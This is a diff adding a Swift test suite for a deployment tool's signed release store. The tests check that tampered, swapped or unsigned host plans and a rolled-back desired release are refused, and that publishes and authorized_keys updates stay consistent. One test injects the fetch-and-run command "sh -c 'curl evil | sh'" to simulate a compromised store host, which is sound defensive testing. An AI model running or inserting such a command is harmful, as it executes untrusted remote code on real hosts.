@@ -1,0 +1,160 @@
+import BerthCore
+@testable import BerthEngine
+import Foundation
+import Testing
+
+/// What a compromised release store host can and cannot do once the controller signs plans, and
+/// how a publish makes its state visible (one rename, under a lock).
+@Suite struct SignedStoreTests {
+    let dir: TemporaryDirectory
+    let store: CatchUpStore
+    let host: Host
+    let keyFile: String
+    let publicKey: String
+
+    init() throws {
+        dir = try TemporaryDirectory("berth-signed-store-tests")
+        store = CatchUpStore(layout: StoreLayout(path: "\(dir.path)/store", app: "hello", env: "production"),
+                             authorizedKeysFile: "\(dir.path)/ssh/authorized_keys")
+        host = try Host()
+        keyFile = "\(dir.path)/deploy_ed25519"
+        try runProgram(PlanSigning.makeKey(file: keyFile, comment: "berth-deploy@test"))
+        publicKey = try String(contentsOfFile: keyFile + ".pub", encoding: .utf8).trimmingCharacters(in: .newlines)
+    }
+
+    func sign(_ text: String) throws -> String {
+        let file = "\(dir.path)/to-sign-\(UUID().uuidString).json"
+        try text.write(toFile: file, atomically: true, encoding: .utf8)
+        let result = try runProgram(PlanSigning.sign(keyFile: keyFile, file: file))
+        guard result.status == 0 else { throw POSIXFailure("ssh-keygen -Y sign: \(result.stderr)") }
+        return try String(contentsOfFile: file + ".sig", encoding: .utf8)
+    }
+
+    /// A request as the controller makes it: every host's plan signed.
+    func request(_ release: ReleaseRef, hosts: [String] = ["h1", "h2"]) throws -> PublishRequest {
+        host.catchUp = CatchUpSource(address: "10.0.0.5", path: "\(dir.path)/store", waitMs: 0, signer: publicKey)
+        let plans = hosts.map { name -> DeployPlan in
+            var plan = host.plan(.deploy, release)
+            plan.host = name
+            return plan
+        }
+        var request = PublishRequest(app: "hello", env: "production", path: "\(dir.path)/store", release: release, plans: plans,
+                                     keys: [], keep: 2, requestedBy: Samples.requester, root: "/var/lib/berth")
+        request.signed = try plans.map { plan in
+            let text = String(decoding: try JSONEncoder().encode(plan), as: UTF8.self) + "\n"
+            return SignedPlan(host: plan.host, plan: text, signature: try sign(text))
+        }
+        return request
+    }
+
+    /// The host h1 as a catch-up sees it: its settings, with the allowed_signers a deploy wrote.
+    func verifier() throws -> PlanVerification {
+        let settings = CatchUpSettings(app: "hello", env: "production", host: "h1", root: host.layout.root,
+                                       systemdDir: host.layout.systemdDir, nginxDir: host.layout.nginxDir,
+                                       source: CatchUpSource(address: "10.0.0.5", path: "\(dir.path)/store", waitMs: 0, signer: publicKey))
+        try FileManager.default.createDirectory(atPath: host.layout.catchUpDir, withIntermediateDirectories: true)
+        try PlanVerification.install(signer: publicKey, layout: host.layout)
+        return PlanVerification(settings: settings)
+    }
+
+    /// What `serve-store … h1` answers, read back from the store's files.
+    func answer() throws -> CatchUpAnswer {
+        let state = try #require(store.currentState())
+        let text = try String(contentsOfFile: StoreLayout.planFile(in: state, host: "h1"), encoding: .utf8)
+        return CatchUpAnswer(desired: try store.desired(), plan: try EngineJSON.decode(DeployPlan.self, from: Array(text.utf8)),
+                             signedPlan: text, signature: try String(contentsOfFile: StoreLayout.signatureFile(in: state, host: "h1"), encoding: .utf8))
+    }
+
+    @Test func aSignedPlanIsKeptAsSignedAndTrusted() async throws {
+        defer { dir.remove() }
+        let release = host.release("1.0.0")
+        let request = try request(release)
+        try await store.publish(request, archive: .file(try host.archive("1.0.0")), events: CollectingSink())
+        let answer = try answer()
+        #expect(answer.signedPlan == request.signed?.first?.plan)
+        #expect(await try verifier().check(answer) == .trusted(request.plans[0]))
+    }
+
+    @Test func aPlanChangedOnTheStoreIsRefused() async throws {
+        defer { dir.remove() }
+        try await store.publish(try request(host.release("1.0.0")), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
+        // Someone with root on the store host gives h1 a command of their own.
+        let state = try #require(store.currentState())
+        let file = StoreLayout.planFile(in: state, host: "h1")
+        let text = try String(contentsOfFile: file, encoding: .utf8)
+        try text.replacingOccurrences(of: "python3 server.py", with: "sh -c 'curl evil | sh'").write(toFile: file, atomically: true, encoding: .utf8)
+        guard case let .refused(reason) = await try verifier().check(try answer()) else {
+            Issue.record("a changed plan was trusted")
+            return
+        }
+        #expect(reason.hasPrefix("ssh-keygen: "), "\(reason)")
+
+        // A signature of the plan of another host does not make it this host's.
+        let h2 = try String(contentsOfFile: StoreLayout.planFile(in: state, host: "h2"), encoding: .utf8)
+        let h2Signature = try String(contentsOfFile: StoreLayout.signatureFile(in: state, host: "h2"), encoding: .utf8)
+        var swapped = try answer()
+        swapped.signedPlan = h2
+        swapped.signature = h2Signature
+        #expect(await try verifier().check(swapped) == .refused("the signed plan is for hello (production) on h2, not for this host"))
+
+        // Without a signature, nothing runs.
+        swapped.signature = nil
+        #expect(await try verifier().check(swapped) == .refused("it came without a signature"))
+    }
+
+    @Test func aDesiredReleaseChangedOnTheStoreIsRefused() async throws {
+        defer { dir.remove() }
+        let v1 = host.release("1.0.0"), v2 = host.release("2.0.0")
+        try await store.publish(try request(v1), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
+        try await store.publish(try request(v2), archive: .file(try host.archive("2.0.0")), events: CollectingSink())
+        // desired.json is pointed back at the older release the store still keeps.
+        let state = try #require(store.currentState())
+        let file = StoreLayout.desiredFile(in: state)
+        let text = try String(contentsOfFile: file, encoding: .utf8)
+        try text.replacingOccurrences(of: #""release":{"archiveBytes":1234,"createdAt":"2025-01-02T03:04:05Z","id":"\#(v2.id)""#,
+                                      with: #""release":{"archiveBytes":1234,"createdAt":"2025-01-02T03:04:05Z","id":"\#(v1.id)""#)
+            .write(toFile: file, atomically: true, encoding: .utf8)
+        #expect(try store.desired()?.release.id == v1.id, "the test changed desired.json")
+        #expect(await try verifier().check(try answer())
+            == .refused("desired.json names release \(v1.id) but the signed plan names \(v2.id)"))
+    }
+
+    @Test func aPublishSwapsOneLinkAndLeavesOneState() async throws {
+        defer { dir.remove() }
+        try await store.publish(try request(host.release("1.0.0")), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
+        let first = try #require(Files.linkTarget(store.layout.currentLink))
+        try await store.publish(try request(host.release("2.0.0")), archive: .file(try host.archive("2.0.0")), events: CollectingSink())
+        let second = try #require(Files.linkTarget(store.layout.currentLink))
+        #expect(first != second && second.hasPrefix("states/"))
+        #expect(try FileManager.default.contentsOfDirectory(atPath: store.layout.statesDir) == [String(second.dropFirst("states/".count))])
+        let inState = try FileManager.default.contentsOfDirectory(atPath: "\(store.layout.envDir)/\(second)/plans").sorted()
+        #expect(inState == ["h1.json", "h1.json.sig", "h2.json", "h2.json.sig"])
+        #expect(FileManager.default.fileExists(atPath: store.layout.publishLock))
+    }
+
+    /// Many engines rewriting one `authorized_keys` at once (threads here; processes on a store
+    /// host): each environment's line survives.
+    @Test func concurrentPublishesOfManyEnvironmentsKeepEveryKeyLine() throws {
+        defer { dir.remove() }
+        let file = "\(dir.path)/ssh/authorized_keys"
+        for round in 0..<5 {
+            let count = 16
+            DispatchQueue.concurrentPerform(iterations: count) { index in
+                let env = "env\(round)x\(index)"
+                let store = CatchUpStore(layout: StoreLayout(path: "\(dir.path)/store", app: "hello", env: env), authorizedKeysFile: file)
+                let key = HostKey(host: "h1", publicKey: "ssh-ed25519 AAAA\(round)x\(index) berth-catchup:hello/\(env)/h1")
+                try? store.authorize([key], hosts: ["h1"], engineLink: "/var/lib/berth/engine/berth-engine")
+            }
+            let lines = try String(contentsOfFile: file, encoding: .utf8).split(separator: "\n")
+            #expect(lines.count == (round + 1) * count, "round \(round): \(lines.count) lines")
+        }
+    }
+
+    @Test func hostKeysMayConnectOnlyFromTheirAddresses() throws {
+        defer { dir.remove() }
+        let key = HostKey(host: "h1", publicKey: "ssh-ed25519 AAAAkey berth-catchup:hello/production/h1")
+        try store.authorize([key], hosts: ["h1"], engineLink: "/e", from: ["h1": ["10.0.0.7"]])
+        let line = try String(contentsOfFile: "\(dir.path)/ssh/authorized_keys", encoding: .utf8)
+        #expect(line == #"restrict,from="10.0.0.7",command="/e serve-store \#(dir.path)/store hello production h1" ssh-ed25519 AAAAkey berth-catchup:hello/production/h1"# + "\n")
+    }
+}
